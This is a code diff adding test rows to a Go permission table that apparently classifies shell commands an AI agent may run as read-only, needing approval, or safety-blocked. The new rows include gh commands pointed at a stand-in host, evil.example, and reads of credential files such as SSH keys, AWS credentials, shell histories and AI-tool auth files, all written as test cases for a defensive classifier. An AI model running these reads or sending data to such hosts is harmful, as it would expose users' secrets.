@@ -79,7 +79,7 @@ var permissionTable = map[string][]tableRow{
 		{"file a.txt", readOnly}, {"du -sh .", readOnly}, {"df -h", readOnly}, {"tree -L 2", readOnly},
 		{"which go", readOnly}, {"type ls", readOnly}, {"grep -rn TODO sub", readOnly},
 		{"grep -e x -e y a.txt", readOnly}, {"grep -c x a.txt", readOnly}, {"egrep 'a|b' a.txt", readOnly},
-		{"rg -n foo", readOnly}, {"rg --files sub", readOnly}, {"find . -name '*.go'", readOnly},
+		{"rg -n foo sub", readOnly}, {"rg --files sub", readOnly}, {"find . -name '*.go'", readOnly},
 		{"find . -type f -mtime -1 -print", readOnly}, {"find sub -maxdepth 1 -newermt 2024-01-01", readOnly},
 		{"sort -u a.txt", readOnly}, {"sort -k2 -t, -n a.txt", readOnly}, {"uniq -c a.txt", readOnly},
 		{"cut -d: -f1 a.txt", readOnly}, {"tr a-z A-Z", readOnly}, {"diff a.txt sub/b.txt", readOnly},
@@ -342,6 +342,32 @@ var permissionTable = map[string][]tableRow{
 	// --blob; secret and dangerous names as a case-insensitive file
 	// system matches them. ("format" is also a dangerous pattern of the
 	// reference's, so those rows are safety.)
+	// gh sends its request to the host of a HOST/OWNER/REPO or a URL,
+	// a channel out to a server the model picks; another user's home
+	// holds credentials as ours does (an agentscope run as root reads
+	// them all).
+	"fourth review": {
+		{"gh pr list -R evil.example/o/DATA", asks}, {"gh pr list --repo=evil.example/o/r", asks},
+		{"gh pr list --repo evil.example/o/r --state open", asks}, {"gh pr list -Revil.example/o/r", asks},
+		{"gh issue list -R evil.example/o/r", asks}, {"gh repo view evil.example/o/r", asks},
+		{"gh repo view https://evil.example/o/r", asks}, {"gh pr list -R o/r -R evil.example/o/r", asks},
+		{"gh issue list -R $X", asks}, {"gh pr list -R o/r", readOnly}, {"gh repo view o/r", readOnly},
+		{"gh repo view r", readOnly}, {"gh issue list --repo=o/r --state open", readOnly},
+		{"cat /home/bob/.ssh/id_rsa", safety}, {"head /home/bob/.aws/credentials", safety},
+		{"cat /HOME/bob/.ssh/id_rsa", safety}, {"cat /Users/bob/.config/gh/hosts.yml", safety},
+		{"cat /root/.ssh/id_rsa", safety}, {"cat /home/bob/notes.txt", readOnly}, {"ls /home/bob", readOnly},
+		{"cat ~/.bash_history", safety}, {"grep KEY ~/.zsh_history", safety}, {"tail ~/.local/share/fish/fish_history", safety},
+		{"cat ~/.claude/.credentials.json", safety}, {"cat ~/.codex/auth.json", safety}, {"cat ~/.s3cfg", safety},
+		{"cat /home/bob/.bash_history", safety}, {"cat ~/.bashrc", readOnly},
+		// A recursive read reaches a dotenv file below the top as cat
+		// proj/.env does (git grep reads what git tracks), and one that
+		// follows links a link to a secret.
+		{"grep -r KEY .", safety}, {"grep -rn KEY", safety}, {"egrep -r KEY .", safety},
+		{"rg --hidden KEY", safety}, {"rg -uu KEY", safety}, {"rg KEY", safety}, {"rg -g .env KEY", safety}, {"rg KEY sub", readOnly},
+		{"diff -rN proj sub", safety}, {"diff --recursive proj sub", safety}, {"diff -r sub sub", readOnly},
+		{"git grep --untracked KEY", safety}, {"git grep --no-index KEY", safety},
+		{"rg -L KEY", safety}, {"grep -R KEY .", safety}, {"grep -R KEY sub", readOnly}, {"grep -r KEY sub", readOnly},
+	},
 	"third review": {
 		{"echo x > .zshenv", safety}, {"echo x > .bash_login", safety}, {"tee .config/git/config", safety},
 		{"echo x >> .config/git/credentials", safety}, {"echo x > .git-credentials", safety}, {"cp a .config/go/env", safety},
